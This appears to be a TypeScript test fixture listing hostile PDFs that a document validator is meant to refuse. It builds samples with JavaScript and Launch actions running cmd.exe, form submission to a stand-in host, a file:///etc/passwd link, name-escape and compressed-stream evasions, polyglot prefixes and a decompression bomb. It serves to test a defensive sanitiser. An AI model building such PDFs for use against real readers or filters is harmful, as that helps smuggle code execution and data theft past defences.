import { deflateSync } from 'node:zlib'
import { pdfStream, type SamplePdf, samplePdf } from '@beursvloer/contract/testing/sample-pdf'

const ACTION = {
  script: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  launch: '<< /S /Launch /F (cmd.exe) >>',
  launchOnWindows: '<< /S /Launch /Win << /F (cmd.exe) >> >>',
  otherFile: '<< /S /GoToR /F (\\\\\\\\elders.example\\\\a.pdf) /D [0 /Fit] >>',
  embeddedFile: '<< /S /GoToE /T << /R /C /N (a) >> >>',
  submit: '<< /S /SubmitForm /F (https://elders.example/) >>',
  import: '<< /S /ImportData /F (a.fdf) >>',
  movie: '<< /S /Movie /T (a) >>',
  sound: '<< /S /Sound /Sound 5 0 R >>',
  rendition: '<< /S /Rendition /OP 0 /JS (1) >>',
  richMedia: '<< /S /RichMediaExecute /CMD << /C (a) >> >>',
  file: '<< /S /URI /URI (file:///etc/passwd) >>',
  scriptLink: '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
  after: '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>',
}
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`
const annotation = (kind: string) => ({
  page: `/Annots [<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] >>]`,
})

/** Where an action can be. */
const PLACES: Readonly<Record<string, (action: string) => SamplePdf>> = {
  'on opening': (action) => ({ catalogue: `/OpenAction ${action}` }),
  'of a link': (action) => ({ page: link(action) }),
  'in an object of its own': (action) => ({ objects: [action] }),
}
const FILE = pdfStream('/Type /EmbeddedFile', 'MZ')
/** Other things that a PDF can bring. */
const PARTS: Readonly<Record<string, SamplePdf>> = {
  'scripts of the document': {
    catalogue: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
    objects: [ACTION.script],
  },
  'actions of the document': { catalogue: `/AA << /WC ${ACTION.script} >>` },
  'actions of a page': { page: `/AA << /O ${ACTION.script} >>` },
  'an address on opening': { catalogue: '/OpenAction << /S /URI /URI (https://elders.example) >>' },
  'an action by reference on opening': { catalogue: '/OpenAction 5 0 R', objects: [ACTION.launch] },
  'embedded files': {
    catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>', FILE],
  },
  'an embedded file that nothing names': { objects: [FILE] },
  'a portfolio': { catalogue: '/Collection << /View /D >>' },
  'a form in XML': {
    catalogue: '/AcroForm << /Fields [] /XFA 5 0 R >>',
    objects: [pdfStream('', '<xdp/>')],
  },
  'scripts of a field': {
    catalogue: `/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K ${ACTION.script} >> >>] >>`,
  },
  'a stream in another file': {
    objects: [`<< /Length 0 /F (https://elders.example/a) >>\nstream\n\nendstream`],
  },
  'a page of another file': {
    objects: [pdfStream('/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', '')],
  },
  'a picture of another file': {
    objects: [pdfStream('/Type /XObject /Subtype /Form /OPI << /2.0 << /F (a.tif) >> >>', '')],
  },
  'a program for a printer': { objects: [pdfStream('/Type /XObject /Subtype /PS', 'showpage')] },
  'a form that is a program': {
    objects: [pdfStream('/Type /XObject /Subtype /Form /Subtype2 /PS', '')],
  },
  'an address to put before links': { catalogue: '/URI << /Base (file:///etc/) >>' },
  'a catalogue in the trailer': {
    trailer: `/Root << /Type /Catalog /Pages 2 0 R /OpenAction ${ACTION.script} >>`,
  },
  'a password': {
    trailer: '/Encrypt 5 0 R /ID [<00> <00>]',
    objects: ['<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>'],
  },
}
/** Names and strings that stand elsewhere than where they count. */
const REFERRED: Readonly<Record<string, SamplePdf>> = {
  launching: { page: link('<< /S 5 0 R /F (cmd.exe) >>'), objects: ['/Launch'] },
  'launching with escapes': { page: link('<< /S 5 0 R /F (cmd.exe) >>'), objects: ['/L#61unch'] },
  'launching on opening': {
    catalogue: '/OpenAction << /S 5 0 R /F (cmd.exe) >>',
    objects: ['/Launch'],
  },
  sending: { page: link('<< /S 5 0 R /F (https://elders.example) >>'), objects: ['/SubmitForm'] },
  'sending as a string': {
    page: link('<< /S 5 0 R /F (https://elders.example) >>'),
    objects: ['(SubmitForm)'],
  },
  'a script in a link': {
    page: link('<< /S /URI /URI 5 0 R >>'),
    objects: ['(javascript:alert\\(1\\))'],
  },
  'a script in a link, in hexadecimal': {
    page: link('<< /S /URI /URI 5 0 R >>'),
    objects: ['<6A6176617363726970743A31>'],
  },
  'a script in a link, as a name': {
    page: link('<< /S /URI /URI 5 0 R >>'),
    objects: ['/javascript:1'],
  },
  'a kind of annotation': {
    page: '/Annots [<< /Type /Annot /Subtype 5 0 R /Rect [0 0 9 9] >>]',
    objects: ['/FileAttachment'],
  },
  'an embedded file': { objects: ['/EmbeddedFile', pdfStream('/Type 5 0 R', 'MZ')] },
  'a reference to a reference': {
    page: link('<< /S 5 0 R /F (cmd.exe) >>'),
    objects: ['6 0 R', '/Launch'],
  },
  'a reference to nothing that some readers follow': {
    page: link('<< /S 5 1 R /F (cmd.exe) >>'),
    objects: ['/Launch'],
  },
}
const KINDS = ['FileAttachment', 'RichMedia', 'Screen', 'Movie', 'Sound', '3D']

const bytes = (text: string) => Buffer.from(text, 'latin1')
/** Names written with escapes: `/J#61vaScript`. */
const escaped = (text: string) =>
  text.replace(
    /\/([A-Z][A-Za-z]+)/g,
    (_, name: string) => `/${name[0]}#${name.charCodeAt(1).toString(16)}${name.slice(2)}`,
  )
/** An object hidden in a compressed stream of objects. */
const compressed = (object: string, page = '') => {
  const content = deflateSync(Buffer.from(`9 0 ${object}`)).toString('latin1')
  return samplePdf({
    page,
    objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', content)],
  })
}
const plain = samplePdf()
const bomb = deflateSync(Buffer.alloc(50_000_000)).toString('latin1')

/** PDFs that are refused: description and bytes. */
export const hostilePdfs: readonly (readonly [what: string, content: Buffer])[] = [
  ...Object.entries(ACTION).flatMap(([name, action]) =>
    Object.entries(PLACES).map(
      ([place, where]) => [`${name} ${place}`, bytes(samplePdf(where(action)))] as const,
    ),
  ),
  ...['script', 'launch', 'otherFile', 'submit'].map(
    (name) =>
      [
        `${name} with escapes`,
        bytes(escaped(samplePdf({ objects: [ACTION[name as keyof typeof ACTION]] }))),
      ] as const,
  ),
  ...['script', 'launch', 'otherFile', 'submit'].map(
    (name) =>
      [`${name} compressed`, bytes(compressed(ACTION[name as keyof typeof ACTION]))] as const,
  ),
  ...Object.entries(PARTS).map(([name, parts]) => [name, bytes(samplePdf(parts))] as const),
  ...Object.entries(REFERRED).map(
    ([name, parts]) => [`${name} by reference`, bytes(samplePdf(parts))] as const,
  ),
  [
    'launching by reference, compressed',
    bytes(compressed('/Launch', link('<< /S 9 0 R /F (cmd.exe) >>'))),
  ],
  [
    'one number for two objects',
    bytes(
      samplePdf({
        page: link('<< /S 5 0 R /F (cmd.exe) >>'),
        objects: ['/GoTo\nendobj\n5 1 obj\n/Launch'],
      }),
    ),
  ],
  ...KINDS.map((kind) => [`an annotation ${kind}`, bytes(samplePdf(annotation(kind)))] as const),
  ['rubbish before it', bytes(`rubbish\n${plain}`)],
  ['a page before it', bytes(`<script>alert(1)</script>${plain}`)],
  ['an archive before it', bytes(`PK\x03\x04${plain}`)],
  ['a program before it', bytes(`MZ\x90\0${plain}`)],
  ['rubbish behind it', bytes(`${plain}${'x'.repeat(2000)}`)],
  ['a page behind it', bytes(`${plain}<script>alert(1)</script>`)],
  ['an archive behind it', bytes(`${plain}PK\x05\x06${'\0'.repeat(18)}`)],
  [
    'an archive in a stream',
    bytes(samplePdf({ objects: [pdfStream('', `PK\x05\x06${'\0'.repeat(18)}`)] })),
  ],
  ['no object', bytes('%PDF-1.7\n%%EOF\n')],
  ['no page', bytes(plain.replace('/Kids [3 0 R] /Count 1', '/Kids [] /Count 0'))],
  ['no end', bytes(plain.slice(0, 200))],
  ['rubbish for objects', bytes(plain.replace('<< /Type /Catalog', '<<<<<< (((('))],
  ['arrays in arrays', bytes(samplePdf({ objects: ['['.repeat(50_000)] }))],
  [
    'objects that unpack to more than is read',
    bytes(
      samplePdf({ objects: [pdfStream('/Type /ObjStm /N 9 /First 4 /Filter /FlateDecode', bomb)] }),
    ),
  ],
]
